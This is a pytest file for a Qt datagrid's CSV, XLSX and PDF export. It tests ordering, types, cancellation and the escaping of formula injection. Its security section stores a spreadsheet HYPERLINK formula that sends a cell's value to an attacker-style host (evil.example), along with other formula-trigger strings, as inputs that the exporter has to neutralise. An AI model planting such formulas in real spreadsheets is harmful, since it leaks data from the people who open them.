"""Exports of the current view (filtered, sorted, every page) read back from the files."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.widgets.datagrid.conftest import patient_rows, wait_idle
from widgets.datagrid import Column, GridQuery, InMemorySource, SortKey
from widgets.datagrid.export import ExportCancelledError, export_format, export_result

pytestmark = [pytest.mark.gui, pytest.mark.qt_log_ignore("propagateSizeHints")]


def filtered_grid(make_grid: Any, qtbot: Any) -> Any:
    grid = make_grid(rows=patient_rows(120), page_size=10)
    grid.set_filter("a")
    grid.sort_by("fee", descending=True)
    grid.set_column_visible("dob", False)
    grid.move_column("fee", 0)
    wait_idle(qtbot, grid)
    return grid


def expected_rows(grid: Any) -> list[tuple[Any, ...]]:
    result = grid.current_result()
    return [(r[3], r[0], r[1]) for r in result.rows(0, result.count)]


def run_export(grid: Any, qtbot: Any, path: Path) -> None:
    with qtbot.waitSignal(grid.sig_export_finished, timeout=20000) as done:
        grid.export(str(path))
    assert done.args == [str(path)]
    assert grid.toolbar().export_progress() is None


def test_csv_has_every_page_in_view_order(make_grid: Any, qtbot: Any, tmp_path: Path) -> None:
    grid = filtered_grid(make_grid, qtbot)
    run_export(grid, qtbot, tmp_path / "pets.csv")
    with (tmp_path / "pets.csv").open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert lines[0] == ["Fee", "Name", "Species"]
    expected = [[f"{fee:,.2f}", name, species] for fee, name, species in expected_rows(grid)]
    assert lines[1:] == expected
    assert len(lines) - 1 == grid.row_count() > grid.page_size()


def test_xlsx_keeps_types(make_grid: Any, qtbot: Any, tmp_path: Path) -> None:
    grid = filtered_grid(make_grid, qtbot)
    run_export(grid, qtbot, tmp_path / "pets.xlsx")
    book = load_workbook(tmp_path / "pets.xlsx", read_only=True)
    sheet = book.active
    values = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    book.close()
    assert values[0] == ("Fee", "Name", "Species")
    assert [(float(f), n, s) for f, n, s in values[1:]] == [
        (float(f), n, s) for f, n, s in expected_rows(grid)
    ]


def test_pdf_has_pages(make_grid: Any, qtbot: Any, tmp_path: Path) -> None:
    grid = make_grid(rows=patient_rows(150))
    run_export(grid, qtbot, tmp_path / "pets.pdf")
    data = (tmp_path / "pets.pdf").read_bytes()
    assert data.startswith(b"%PDF")
    pages = re.findall(rb"/Type\s*/Page(?!s)", data)
    assert len(pages) >= 3  # 150 rows at ~40 rows a page (A4 landscape)


def test_cancel_leaves_no_file(tmp_path: Path) -> None:
    columns = [Column("n", "N")]
    result = InMemorySource(columns, [(i,) for i in range(10_000)]).run(GridQuery())
    seen: list[int] = []

    def progress(done: int, total: int) -> None:
        seen.append(done)

    with pytest.raises(ExportCancelledError):
        export_result(
            result,
            [(columns[0], 0)],
            tmp_path / "n.csv",
            progress=progress,
            cancelled=lambda: len(seen) >= 2,
        )
    assert not list(tmp_path.iterdir())
    assert seen == [2000, 4000]


def test_grid_export_reports_cancel_and_bad_paths(
    make_grid: Any, qtbot: Any, tmp_path: Path
) -> None:
    grid = make_grid(rows=patient_rows(30))
    with pytest.raises(ValueError, match=r"must end in \.csv, \.xlsx or \.pdf"):
        grid.export(str(tmp_path / "pets.txt"))
    with pytest.raises(ValueError, match="must end in"):
        export_format("x.doc")
    source = InMemorySource([Column("n", "N")], [(i,) for i in range(200_000)])
    big = make_grid(rows=None, source=source, columns=[Column("n", "N")])
    with qtbot.waitSignal(big.sig_export_failed, timeout=20000) as failed:
        job = big.export(str(tmp_path / "big.xlsx"))
        qtbot.waitUntil(lambda: big.toolbar().export_progress() is not None)
        job.cancel()
    assert failed.args == ["Export cancelled"]
    assert not (tmp_path / "big.xlsx").exists()


def test_export_sorts_like_the_grid(tmp_path: Path) -> None:
    columns = [Column("name", "Name")]
    result = InMemorySource(columns, [("b",), ("A",), (None,), ("c",)]).run(
        GridQuery(sort=(SortKey("name"),))
    )
    export_result(result, [(columns[0], 0)], tmp_path / "x.csv")
    text = (tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()
    assert text == ["Name", "A", "b", "c", '""']  # csv quotes a lone empty field


# ---- security and data loss (issue 17) ------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"x")'
TRIGGERS = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "\uff1d1+1"]
SAFE_COLUMNS = [
    Column("name", "Name"),
    Column("fee", "Fee", kind="money"),
    Column("age", "Age", kind="number"),
    Column("born", "Born"),
    Column("note", "Note"),
]


def safe_result() -> Any:
    import datetime as dt
    from decimal import Decimal

    rows = [(text, Decimal("-12.50"), -3, dt.date(2020, 1, 31), "ok") for text in TRIGGERS]
    rows.append(("Bella", Decimal("1234.5"), 4, None, "line one\x0bline two\x01\x1f end"))
    return InMemorySource(SAFE_COLUMNS, rows).run(GridQuery())


def export_all(tmp_path: Path, name: str) -> Path:
    path = tmp_path / name
    export_result(safe_result(), [(c, i) for i, c in enumerate(SAFE_COLUMNS)], path)
    return path


def test_csv_neutralises_formulas_but_keeps_numbers(tmp_path: Path) -> None:
    path = export_all(tmp_path, "x.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    names = [line[0] for line in lines[1:]]
    assert names == [f"'{t}" for t in TRIGGERS] + ["Bella"]
    # numbers and dates stay what they are: a negative fee is not text
    assert {tuple(line[1:4]) for line in lines[1:-1]} == {("-12.50", "-3", "2020-01-31")}
    assert lines[-1][1] == "1,234.50"


def test_xlsx_writes_formula_text_as_typed_strings_and_keeps_types(tmp_path: Path) -> None:
    import datetime as dt

    path = export_all(tmp_path, "x.xlsx")
    book = load_workbook(path)
    sheet = book.active
    cells = list(sheet.iter_rows(min_row=2))
    for text, row in zip(TRIGGERS, cells, strict=False):
        name = row[0]
        assert name.data_type == "s", f"{text!r} was written as {name.data_type!r}"
        assert name.value == text.replace("\r", "\n") or name.value == text
        assert name.quotePrefix  # Excel keeps it text when the cell is edited
        assert row[1].data_type == "n"
        assert float(row[1].value) == -12.5
        assert row[2].value == -3
        assert row[3].value == dt.datetime(2020, 1, 31)  # a real date cell
    book.close()


def test_xlsx_survives_control_characters(tmp_path: Path) -> None:
    path = export_all(tmp_path, "x.xlsx")
    book = load_workbook(path, read_only=True)
    values = [tuple(c.value for c in row) for row in book.active.iter_rows()]
    book.close()
    assert values[-1][0] == "Bella"
    # a vertical tab from a word processor is its line break; other controls become U+FFFD
    assert values[-1][4] == "line one\nline two\ufffd\ufffd end"


def test_pdf_survives_control_characters_and_formula_text(tmp_path: Path) -> None:
    path = export_all(tmp_path, "x.pdf")
    assert path.read_bytes().startswith(b"%PDF")


def test_sheet_title_with_characters_excel_refuses(tmp_path: Path) -> None:
    result = InMemorySource([Column("n", "N")], [(1,)]).run(GridQuery())
    path = tmp_path / "x.xlsx"
    export_result(result, [(Column("n", "N"), 0)], path, title="Clients: A/B [2024]?")
    book = load_workbook(path, read_only=True)
    assert book.sheetnames == ["Clients A B 2024"]
    book.close()
